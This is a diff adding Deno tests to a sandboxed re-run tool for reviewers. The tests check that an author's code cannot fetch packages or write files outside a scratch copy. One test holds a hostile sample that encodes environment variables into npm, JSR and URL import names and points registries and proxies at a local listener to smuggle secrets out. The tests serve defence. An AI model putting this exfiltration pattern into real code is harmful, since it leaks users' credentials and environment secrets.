@@ -146,6 +146,161 @@ Deno.test("the project's deno.json cannot put its lockfile outside the scratch c
   }
 });
 
+/**
+ * The specifiers a re-run builds at run time (so no step before the run can
+ * see them), each a way to make Deno fetch: npm and JSR packages named after
+ * what it found, an import-map entry and a URL on the listener, and jsr.io.
+ */
+const FETCHES = (port: number) =>
+  `const found = [...new TextEncoder().encode(JSON.stringify(Deno.env.toObject()).slice(0, 20))]
+  .map((b) => b.toString(16).padStart(2, "0")).join("");
+const listener = ["http://127.0.0.1:", ${port}, "/"].join("");
+// A registry and a proxy the run names for itself, in case Deno reads them late.
+for (const name of ["NPM_CONFIG_REGISTRY", "JSR_URL", "HTTP_PROXY", "HTTPS_PROXY"]) {
+  Deno.env.set(name, listener);
+}
+const specifiers = [
+  ["npm:", "loot-", found, "@1.0.0"], ["npm:", "canonicalize", "@2.0.0"],
+  ["jsr:", "@loot/", "x", found, "@1.0.0"], ["lo", "ot"], [listener, found, ".ts"],
+  ["https://", "jsr.io/@loot/", "x", found, "/mod.ts"],
+].map((parts) => parts.join(""));
+let refused = 0;
+for (const specifier of specifiers) {
+  try { await import(specifier); } catch { refused++; }
+}
+if (refused !== specifiers.length) throw new Error("an import was served: " + refused);
+`;
+
+Deno.test("nothing the re-run asks Deno to fetch leaves the machine: npm, jsr, an import map, a registry or proxy it sets, an .npmrc anywhere", async () => {
+  const { root, project, environment } = await scene("tidepool-fetch-");
+  const net = listener();
+  try {
+    // The author's registry, at the root and in a folder of the project.
+    await Deno.writeTextFile(`${project}/.npmrc`, `registry=http://127.0.0.1:${net.port}/\n`);
+    await Deno.mkdir(`${project}/analysis`);
+    await Deno.writeTextFile(
+      `${project}/analysis/.npmrc`,
+      `registry=http://127.0.0.1:${net.port}/\n@loot:registry=http://127.0.0.1:${net.port}/\n`,
+    );
+    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
+    config.imports.loot = `http://127.0.0.1:${net.port}/loot.ts`;
+    await Deno.writeTextFile(`${project}/deno.json`, JSON.stringify(config));
+    await Deno.writeTextFile(`${project}/paper.ts`, FETCHES(net.port) + PAPER);
+    const run = await reproduceCommand(
+      [`${project}/out/bundle`, `${project}/paper.ts`],
+      environment,
+    );
+    // The re-run went past every import to its bundle: each was refused without a connection.
+    assert.equal(run.code, 0, run.stdout + run.stderr);
+    assert.match(run.stdout, /counts\.parquet +same/);
+    assert.equal(net.connections, 0, `the listener was reached:\n${run.stdout}${run.stderr}`);
+
+    // A static import of the listener is refused before the run, by the step that fetches.
+    await Deno.writeTextFile(
+      `${project}/paper.ts`,
+      `import "http://127.0.0.1:${net.port}/static.ts";\n${PAPER}`,
+    );
+    const stat = await reproduceCommand(
+      [`${project}/out/bundle`, `${project}/paper.ts`],
+      environment,
+    );
+    assert.equal(stat.code, 1, stat.stdout + stat.stderr);
+    assert.match(stat.stderr, /Cannot reproduce: Deno cannot fetch the imports of paper\.ts/);
+    assert.equal(net.connections, 0, "the static import reached the listener");
+  } finally {
+    await net.close();
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
+/** Every file below a folder, not following links, whose bytes hold `text`. */
+async function filesHolding(dir: string, text: string): Promise<string[]> {
+  const needle = new TextEncoder().encode(text);
+  const found: string[] = [];
+  const walk = async (folder: string) => {
+    for await (const entry of Deno.readDir(folder)) {
+      const path = `${folder}/${entry.name}`;
+      if (entry.isDirectory) await walk(path);
+      else if (entry.isFile && holds(await Deno.readFile(path), needle)) found.push(path);
+    }
+  };
+  await walk(dir);
+  return found;
+}
+
+function holds(bytes: Uint8Array, needle: Uint8Array): boolean {
+  outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
+    for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
+    return true;
+  }
+  return false;
+}
+
+Deno.test("Deno writes none of the re-run's own files outside the scratch copy: lockfile, node_modules, vendor, DENO_DIR stores, coverage", async () => {
+  const { root, outside, project, environment } = await scene("tidepool-deno-files-");
+  try {
+    // The reviewer's DENO_DIR, with the machine's package caches in it, so the test sees what lands there.
+    const { npmCache, modulesCache } = JSON.parse(
+      new TextDecoder().decode(
+        (await new Deno.Command(Deno.execPath(), { args: ["info", "--json"] }).output()).stdout,
+      ),
+    );
+    const denoDir = `${root}/deno-dir`;
+    await Deno.mkdir(denoDir);
+    await Deno.symlink(npmCache, `${denoDir}/npm`);
+    await Deno.symlink(modulesCache, `${denoDir}/remote`);
+    const before = await snapshot(outside);
+    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
+    await Deno.writeTextFile(
+      `${project}/deno.json`,
+      JSON.stringify({
+        ...config,
+        lock: `${outside}/string-form.lock`,
+        nodeModulesDir: "auto",
+        vendor: true,
+        unstable: ["kv"],
+      }),
+    );
+    // What the run stores where Deno keeps it (localStorage, the Cache API, KV) needs no permission;
+    // the mark is made at run time, so only a store of the run's can hold it.
+    await Deno.writeTextFile(
+      `${project}/paper.ts`,
+      `import "npm:canonicalize@2.1.0";
+const mark = ["tidepool", "run", "store", String(6 * 7)].join("-");
+localStorage.setItem("k", mark);
+await (await caches.open("c")).put("http://127.0.0.1:9/", new Response(mark));
+const kv = await Deno.openKv();
+await kv.set(["k"], mark);
+kv.close();
+for (const folder of ["node_modules", "vendor"]) {
+  if (await Deno.stat(folder).then(() => true, () => false)) throw new Error("Deno made " + folder);
+}
+${PAPER}`,
+    );
+    const run = await reproduceCommand(
+      [`${project}/out/bundle`, `${project}/paper.ts`],
+      // The reviewer collects coverage of their own processes: never of the author's code.
+      { ...environment, DENO_DIR: denoDir, DENO_COVERAGE_DIR: `${root}/coverage` },
+    );
+    assert.equal(run.code, 0, run.stdout + run.stderr);
+    assert.match(run.stdout, /counts\.parquet +same/);
+    assert.deepEqual(await snapshot(outside), before, "a file was written outside the project");
+    assert.deepEqual(
+      await filesHolding(denoDir, ["tidepool", "run", "store", "42"].join("-")),
+      [],
+      "the run's stores landed in the reviewer's DENO_DIR",
+    );
+    const covered = await Deno.stat(`${root}/coverage`).then(() => true, () => false);
+    assert.deepEqual(
+      covered ? await filesHolding(`${root}/coverage`, "/project/paper.ts") : [],
+      [],
+      "the reviewer's coverage folder holds the run's",
+    );
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
 Deno.test("a re-run that ignores SIGTERM still ends at the time limit", async () => {
   const { root, project } = await scene("tidepool-sigterm-");
   try {
